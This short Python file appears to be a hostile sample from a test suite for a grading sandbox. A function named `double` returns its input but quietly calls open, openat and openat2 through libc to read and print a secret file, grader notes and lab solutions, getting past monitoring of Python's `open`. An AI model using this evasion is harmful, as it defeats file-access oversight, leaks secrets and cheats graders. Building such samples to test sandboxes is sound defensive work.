"""Opens secret files with the bare system calls open, openat, openat2 and creat, past whatever watches Python's `open`."""
# bites: secret
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
OPEN, OPENAT, OPENAT2 = (2, 257, 437) if platform.machine() == "x86_64" else (None, 56, 437)
PATHS = [b"/tmp/hostile-secret.txt", b"/srv/grader/notes.txt", b"/tmp/hostile/course/solutions/lab01_hostile.py"]


class How(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64)]


def double(x):
    for path in PATHS:
        how = How(0, 0, 0)
        calls = [lambda: libc.syscall(OPENAT, -100, path, 0, 0), lambda: libc.syscall(OPENAT2, -100, path, ctypes.byref(how), ctypes.sizeof(how))]
        if OPEN is not None:
            calls.append(lambda: libc.syscall(OPEN, path, 0, 0))
        for call in calls:
            descriptor = call()
            if descriptor >= 0:
                print(os.pread(descriptor, 100_000, 0))
                os.close(descriptor)
    return x
